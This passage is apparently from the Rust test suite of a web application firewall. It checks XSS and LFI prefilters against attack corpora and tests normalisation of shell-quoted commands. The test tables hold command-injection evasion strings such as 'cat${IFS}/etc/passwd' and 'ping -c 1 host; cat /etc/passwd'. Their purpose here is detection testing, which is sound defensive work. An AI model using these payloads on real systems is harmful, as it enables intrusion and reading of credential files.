                "{} on {value:?}",
                attack.as_str()
            );
        }
        assert!(!matches(DeniedSource, b"anything"));
    }

    /// Every decoded view of every request of the corpora (tests/data/waas/), attacks and benign.
    fn corpus_views() -> Vec<Vec<u8>> {
        let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/waas");
        let mut views = Vec::new();
        for name in ["crs-attacks.jsonl", "crs-benign.jsonl", "benign.jsonl"] {
            let text = std::fs::read_to_string(format!("{dir}/{name}")).unwrap();
            for line in text.lines() {
                let row: serde_json::Value = serde_json::from_str(line).unwrap();
                let text = |key: &str| row[key].as_str().unwrap_or_default().to_owned();
                let headers: Vec<(String, String)> = (row["headers"].as_array().into_iter())
                    .flatten()
                    .map(|h| {
                        (
                            h[0].as_str().unwrap_or("").into(),
                            h[1].as_str().unwrap_or("").into(),
                        )
                    })
                    .collect();
                let (method, target, body) = (text("method"), text("uri"), text("data"));
                let request = crate::waas::inspect::Request {
                    method: &method,
                    target: &target,
                    headers: headers
                        .iter()
                        .map(|(n, v)| (n.as_str(), v.as_bytes()))
                        .collect(),
                    body: body.as_bytes(),
                };
                let (fields, _) = crate::waas::fields::fields(&request);
                views.extend(fields.into_iter().flat_map(|f| f.views));
            }
        }
        views
    }

    /// The XSS prefilter loses no detection: on the corpora (where libinjection flags hundreds of
    /// views), and on random values without `<` and `=` built from the bytes markup is made of.
    #[test]
    fn xss_prefilter_is_necessary() {
        let views = corpus_views();
        let flagged = views
            .iter()
            .filter(|v| libinjectionrs::detect_xss(v).is_injection())
            .inspect(|v| assert!(may_be_markup(v), "{:?}", String::from_utf8_lossy(v)))
            .count();
        assert!(
            flagged > 100,
            "only {flagged} views flagged by libinjection"
        );
        use proptest::prelude::*;
        let alphabet: Vec<u8> =
            b"\"'`/>!?-[]& \t\nonerrorscriptjavascript:xmlnsstyleIMPORTENTITY%()".to_vec();
        proptest!(ProptestConfig::with_cases(20_000), |(value in proptest::collection::vec(
            proptest::sample::select(alphabet.clone()), 0..40))| {
            prop_assert!(!libinjectionrs::detect_xss(&value).is_injection(), "{:?}", value);
        });
    }

    /// The byte prefilters of the XSS and LFI sets are necessary conditions: every value of the
    /// three corpora the set flags has one of the bytes, and no value made without them matches
    /// the set: random sequences of the words the expressions name (each run of letters in their
    /// source: `script`, `onload`, `passwd`, ...) and of every other printable byte.
    #[test]
    fn prefilters_are_necessary() {
        use proptest::prelude::*;
        let sets = sets();
        let words = |patterns: &[&str]| -> Vec<Vec<u8>> {
            let mut words: Vec<Vec<u8>> = patterns
                .iter()
                .chain([&WRAPPERS])
                .flat_map(|p| p.split(|c: char| !c.is_ascii_alphabetic()))
                .filter(|w| w.len() > 1)
                .map(|w| w.as_bytes().to_vec())
                .collect();
            words.sort();
            words.dedup();
            words
        };
        let prefiltered = [
            ("xss", &sets.xss, XSS_BYTES, words(XSS)),
            ("lfi", &sets.lfi, LFI_BYTES, words(LFI)),
        ];
        let views = corpus_views();
        for (class, set, table, words) in prefiltered {
            let flagged = views.iter().filter(|v| set.is_match(v));
            for view in flagged {
                assert!(
                    holds(view, table),
                    "{class}: {:?}",
                    String::from_utf8_lossy(view)
                );
            }
            let tokens: Vec<Vec<u8>> = (0u8..=255)
                .filter(|b| !table.contains(b))
                .filter(|b| b.is_ascii_graphic() || b" \t\n".contains(b))
                .map(|b| vec![b])
                .chain(words)
                .collect();
            proptest!(ProptestConfig::with_cases(20_000), |(value in proptest::collection::vec(
                proptest::sample::select(tokens.clone()), 0..12))| {
                let value = value.concat();
                prop_assert!(!set.is_match(&value), "{}: {:?}", class, String::from_utf8_lossy(&value));
            });
        }
    }

    #[test]
    fn command_line_undoes_shell_quoting() {
        let table = [
            ("c\\a't'\"\"", "cat"),
            ("c$@at", "cat"),
            ("cat${IFS}/etc/passwd", "cat /etc/passwd"),
            ("{cat,/etc/passwd}", "{cat /etc/passwd}"),
            ("w^h^o^a^m^i", "whoami"),
        ];
        for (input, want) in table {
            assert_eq!(command_line(input.as_bytes()), want.as_bytes(), "{input}");
        }
        // A value with nothing to undo is its own command line, not a copy.
        assert!(matches!(
            command_line(b"ping -c 1 host; cat /etc/passwd"),
            Cow::Borrowed(b"ping -c 1 host; cat /etc/passwd")
        ));
        // Each byte the rewriting handles makes a copy, whatever its place.
        for byte in [b'\\', b'\'', b'"', b'^', b'$', b','] {
            assert!(
                matches!(command_line(&[b'a', byte, b'b']), Cow::Owned(_)),
                "{}",
                byte as char
            );
        }
    }
}
